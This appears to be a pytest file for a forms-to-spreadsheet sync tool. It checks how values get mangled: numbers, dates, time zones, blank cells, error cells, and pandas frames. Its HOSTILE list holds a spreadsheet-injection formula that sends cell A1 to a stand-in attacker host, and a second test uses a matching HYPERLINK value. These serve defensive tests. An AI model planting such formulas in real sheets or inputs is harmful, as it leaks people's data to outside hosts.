"""Traps of values: what a spreadsheet, a library or a frame makes of what people wrote."""

from __future__ import annotations

import datetime as dt
import json
from typing import Any
from zoneinfo import ZoneInfo

import gspread
import pandas as pd
import pytest

from tests.google_emulator import people
from tests.google_emulator.forms import questions
from tests.google_traps.conftest import Build
from tests.google_traps.springs import ASKED, WRITE, Springs, naive

WHO = "Who has signed"
CHECKED = "Every form checked"
TO_DECIDE = "To decide"
HOSTILE = (
    '=IMPORTXML("https://evil.example.org/?"&A1,"//a")', "=1+1", "+44 7700 900123", "-5", "@all",
    "0042", "3/4", "1-2", "MARCH1", "1e5", "TRUE", "'quoted", "2,000.50", "50%", "inf", "nan",
)  # fmt: skip


NUMBERLIKE = ("007", "1e5", "01067", "inf", "1,2,3", "٣", "3,5")


@pytest.mark.parametrize("through", ["form", "sheet"])
def test_t08_texts_made_numbers(coalition: Build, through: Any) -> None:
    """gspread's get_all_records makes numbers of post codes, telephone numbers and "1e5"."""
    forms = {f"Group {i} of the {code}": {"District": code} for i, code in enumerate(NUMBERLIKE)}
    springs = coalition(through, forms=forms)
    springs.run()
    wanted = {name: said["District"] for name, said in forms.items()}
    assert springs.districts() == wanted
    assert springs.run()["cells_written"] == 0

    people.share(springs.world, springs.answers.id, "anyone", "reader")
    with naive(springs.google, springs.answers, springs.linked.title) as tab:
        read = {row["Organisation"]: row["District"] for row in tab.get_all_records()}
    assert sum(str(read[name]) != code for name, code in wanted.items()) >= 4


def test_t09_typed_as_if_by_hand(coalition: Build) -> None:
    """What is written "as a user types it" comes alive: formulas fetch, "3/4" is a day, "0042" is
    42."""
    forms = {f"Group {i}": {"District": text, "Reservations": text}
             for i, text in enumerate(HOSTILE)}  # fmt: skip
    springs = coalition(forms=forms)
    springs.sign('=HYPERLINK("https://evil.example.org")')
    springs.run()
    assert springs.districts() | {} == {
        **{name: said["District"] for name, said in forms.items()},
        '=HYPERLINK("https://evil.example.org")': None,
    }
    cells = [cell for sheet in springs.working.sheets for _, _, cell in sheet.cells(sheet.whole())]
    assert not [cell.formula for cell in cells if cell.formula and "evil" in cell.formula]
    assert springs.working.outgoing == []
    assert springs.run()["cells_written"] == 0

    with naive(springs.google, springs.working, "Promises") as tab:
        texts = [[text] for text in HOSTILE]
        tab.append_rows(texts, value_input_option="USER_ENTERED", table_range="A1")
    column = [line[0] for line in springs.working.sheet("Promises").grid()[3:]]
    assert sum(a == b for a, b in zip(column, HOSTILE, strict=True)) <= len(HOSTILE) // 2
    assert springs.working.outgoing != []


def test_t10_the_calls_that_type(running: Springs) -> None:
    """gspread's update is RAW, but its update_cell and update_acell type; Weaver only ever sends
    values with their kind, and no formula with anybody's words in it."""
    running.next_day()
    running.sign("0042", {"District": "=1+1"})
    running.decide("Dune Wardens", "accept", "Bo", "=1+1")
    running.run()
    assert {call.method_id for call in running.writes()} == {WRITE}
    kinds = set()
    for asked in running.asked():
        for row in asked.get("updateCells", {}).get("rows", ()):
            for cell in row.get("values", ()):
                kinds |= cell.get("userEnteredValue", {}).keys()
    assert kinds <= {"stringValue", "numberValue", "boolValue", "formulaValue"}
    assert "=1+1" not in json.dumps([
        cell["userEnteredValue"]["formulaValue"]
        for asked in running.asked() for row in asked.get("updateCells", {}).get("rows", ())
        for cell in row.get("values", ()) if "formulaValue" in cell.get("userEnteredValue", {})
    ])  # fmt: skip
    assert running.districts()["0042"] == "=1+1"

    with naive(running.google, running.working, "Promises") as tab:
        tab.update([["0042"]], "A9")
        tab.update_acell("A10", "0042")
        tab.update_cell(11, 1, "=1+1")
    sheet = running.working.sheet("Promises")
    assert [sheet.value(row, 0) for row in (8, 9, 10)] == ["0042", 42, 2]


def test_t11_none_leaves_the_old_cell(running: Springs) -> None:
    """None is sent as "leave it": a state that was cleared stays in the sheet for ever."""
    assert running.row(WHO, "Alder Brook Anglers")["Why not listed"]
    people.type_rows_at_bottom(
        running.world, running.working, "Changes",
        [{"Organisation": "Birch Hill Growers", "Change": "withdraw", "Entered by": "Ana"}],
    )  # fmt: skip
    running.decide("Alder Brook Anglers", "list", "Ana")
    running.next_day()
    running.sign("Alder Brook Anglers", {"District": "", "Sector": []})
    running.run()
    assert running.districts()["Alder Brook Anglers"] is None
    sheet, table = running.working.sheet(WHO), people.table_of(running.working, WHO)
    place = table.row({"Organisation": "Alder Brook Anglers"}), table.column("District")
    assert sheet.value(*place) is None

    with naive(running.google, running.working, WHO) as tab:
        where = {"Organisation": "Fern Valley School"}
        tab.update([[None]], f"O{table.row(where) + 1}")
    assert running.districts()["Fern Valley School"] == "Hollow"


def test_t12_one_title_twice(coalition: Build) -> None:
    """Two columns of one title (or of none) stop get_all_records; told to go on, it keeps the last
    one of them."""
    springs = coalition("sheet")
    people.add_branch_question(springs.world, springs.form, "District")
    springs.sign("Gorse Moor Society", {("District", 1): "Moor"})
    springs.sign("Heron Lake Rowers", {("District", 0): "Lake"})
    people.add_own_column(springs.world, springs.answers, springs.linked.title, "Organisation")
    springs.run()
    found = springs.districts()
    assert found["Gorse Moor Society"] == "Moor"
    assert found["Heron Lake Rowers"] == "Lake"
    assert found["Fern Valley School"] == "Hollow"

    people.add_own_column(springs.world, springs.working, TO_DECIDE, "Note", [(2, "mine")])
    springs.decide("Dune Wardens", "accept", "Bo", "I rang them")
    springs.next_day()
    springs.run()
    row = springs.row(TO_DECIDE, "Dune Wardens")
    assert (row["Status"], row["Note"]) == ("settled", "I rang them")
    assert "mine" in springs.working.sheet(TO_DECIDE).grid()[1]

    with naive(springs.google, springs.answers, springs.linked.title) as tab:
        with pytest.raises(gspread.exceptions.GSpreadException, match="uplicate"):
            tab.get_all_records()
        (last,) = [row["District"] for row in tab.get_all_records(expected_headers=["Timestamp"])
                   if row["Signatory"] == "Heron Person"]  # fmt: skip
    assert last == ""


@pytest.mark.parametrize("locale", ["en_US", "en_GB", "de_DE"])
def test_t19_days_and_months_swapped(coalition: Build, locale: str) -> None:
    """Read as it is shown, 3 April is 03/04 or 04/03, as the spreadsheet's locale has it; and
    that is somebody's setting."""
    springs = coalition("sheet", locale="en_US")
    people.change_locale(springs.world, springs.answers, locale)
    people.change_locale(springs.world, springs.working, locale)
    springs.world.clock.advance(40 * 86_400)
    springs.sign("Gorse Moor Society", at=dt.datetime(2026, 4, 3, 10, tzinfo=dt.UTC))
    springs.run()
    assert moment(springs, "Gorse Moor Society") == dt.datetime(2026, 4, 3, 12)  # noqa: DTZ001
    assert springs.run()["cells_written"] == 0

    with naive(springs.google, springs.answers, springs.linked.title) as tab:
        shown = tab.get_all_values()[-1][0]
    assert shown.startswith(
        {"en_US": "4/3/2026", "en_GB": "03/04/2026", "de_DE": "03.04.2026"}[locale]
    )


def moment(springs: Springs, organisation: str) -> dt.datetime:
    """When the form came in, as the tracker has it."""
    found = springs.row(CHECKED, organisation)["Received"]
    assert isinstance(found, int | float)
    since = dt.datetime(1899, 12, 30) + dt.timedelta(days=found)  # noqa: DTZ001
    return (since + dt.timedelta(microseconds=500_000)).replace(microsecond=0)


@pytest.mark.parametrize(
    ("through", "zone"),
    [("form", "Pacific/Auckland"), ("both", "America/Los_Angeles"), ("sheet", "Europe/Vienna"),
     ("sheet", "America/Los_Angeles"), ("sheet", "Pacific/Auckland")],
)  # fmt: skip
def test_t20_days_and_hours_moved(coalition: Build, through: Any, zone: str) -> None:
    """A serial date is the wall clock of the spreadsheet's own zone; taken for UTC, an evening is
    the next day. And one hour of autumn comes twice."""
    springs = coalition(through, zone=zone)
    vienna = ZoneInfo("Europe/Vienna")
    late = dt.datetime(2026, 3, 5, 23, 30, tzinfo=vienna)
    springs.sign("Gorse Moor Society", at=late)
    first = dt.datetime(2025, 10, 26, 2, 30, tzinfo=vienna)
    springs.sign("Heron Lake Rowers", at=first)
    springs.sign("Ivy Mill Readers", at=first.replace(fold=1))
    springs.run()
    assert moment(springs, "Gorse Moor Society") == late.replace(tzinfo=None)
    for name in ("Heron Lake Rowers", "Ivy Mill Readers"):
        assert moment(springs, name) == first.replace(tzinfo=None)
    assert (
        springs.row(WHO, "Gorse Moor Society")["Since"]
        == (late.date() - dt.date(1899, 12, 30)).days
    )
    again = springs.run()
    assert (again["cells_written"], again["signons"]["received"]) == (0, 9)


def test_t21_what_is_cut_off(coalition: Build) -> None:
    """Google cuts empty cells at the end of rows and empty rows at the end of tabs: zipped with
    the titles the last columns are missing, and an empty row in the middle ends a simple loop."""
    springs = coalition("sheet")
    people.insert_rows(springs.world, springs.answers, springs.linked.title, 3, 2)
    springs.sign("Gorse Moor Society", {"Sector": ["Farming"], "District": "Moor"})
    summary = springs.run()
    assert summary["signons"]["received"] == 7
    assert springs.districts()["Gorse Moor Society"] == "Moor"
    assert springs.districts()["Dune Wardens"] is None

    with naive(springs.google, springs.answers, springs.linked.title) as tab:
        header, *rows = tab.get("A1:Z", pad_values=False)
    seen = []
    for row in rows:
        if not row:
            break
        seen.append(dict(zip(header, row, strict=False)))
    assert len(seen) == 1
    assert any(len(row) < len(header) for row in rows)


def test_t32_columns_by_the_first_row(coalition: Build) -> None:
    """A tool that takes columns and kinds from the first row drops what that row left blank."""
    forms: dict[str, dict[str, Any]] = {
        "Alder Brook Anglers": {},
        "Birch Hill Growers": {"District": "Linden", "Sector": ["Farming"]},
        "Cedar Ferry Choir": {"District": "5"},
    }
    springs = coalition("sheet", forms=forms)
    springs.run()
    assert springs.districts() == {
        "Alder Brook Anglers": None, "Birch Hill Growers": "Linden", "Cedar Ferry Choir": "5",
    }  # fmt: skip
    header, first, *_ = springs.linked.grid()
    assert len(first) < len(header)


@pytest.mark.parametrize("error", ["#REF!", "#N/A", "Loading..."])
def test_t36_cells_that_failed(coalition: Build, error: str) -> None:
    """A formula that failed is read as a text, "#REF!", and becomes somebody's district."""
    springs = coalition("sheet")
    sheet, table = springs.linked, people.table_of(springs.answers, springs.linked.title)
    row, column = table.row({"Organisation": "Birch Hill Growers"}), table.column("District")
    from tests.google_emulator.sheets.model import Cell, CellError

    sheet.put(row, column, Cell(CellError(error), formula="=VLOOKUP(A2,Z:Z,1)"))
    springs.run()
    assert springs.districts()["Birch Hill Growers"] is None
    assert error in springs.fixes()
    assert "District" in springs.fixes()
    texts = [v for s in springs.working.sheets if s.title != "To fix" for r in s.grid() for v in r]
    assert error not in texts

    with naive(springs.google, springs.answers, springs.linked.title) as tab:
        assert error in [row["District"] for row in tab.get_all_records()]


def test_t40_numbers_through_a_frame(coalition: Build) -> None:
    """A column of numbers with a gap becomes one of floats: 7 is 7.0, and of long numbers the last
    digits are lost."""
    long = "12345678901234567"
    asked = [*ASKED, questions.text("Parent")]
    forms = {"Alder Brook Anglers": {"District": "7"}, "Birch Hill Growers": {"District": long},
             "Cedar Ferry Choir": {}}  # fmt: skip
    springs = coalition("sheet", forms=forms, asked=asked)
    springs.run()
    assert springs.districts() == {
        "Alder Brook Anglers": "7", "Birch Hill Growers": long, "Cedar Ferry Choir": None,
    }  # fmt: skip

    with naive(springs.google, springs.answers, springs.linked.title) as tab:
        frame = pd.DataFrame(tab.get_all_records()).replace("", None)
    frame["District"] = pd.to_numeric(frame["District"]).astype(float)
    assert [str(value) for value in frame["District"]][:2] != ["7", long]
